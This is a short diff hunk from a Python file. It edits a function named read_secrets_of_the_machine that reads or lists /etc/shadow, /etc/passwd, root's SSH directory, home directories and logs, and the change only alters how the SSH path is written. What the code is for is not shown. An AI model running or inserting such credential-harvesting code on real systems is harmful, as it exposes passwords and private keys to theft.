@@ -289,7 +289,7 @@ def read_secrets_of_the_machine():
     """Passwords, keys, histories."""
     import os
 
-    for path in ("/etc/shadow", "/etc/passwd", "/root/.ssh", "/home", "/var/log"):
+    for path in ("/etc/shadow", "/etc/passwd", os.path.expanduser("~root/.ssh"), "/home", "/var/log"):
         try:
             found = os.listdir(path) if os.path.isdir(path) else open(path).read()
         except OSError:
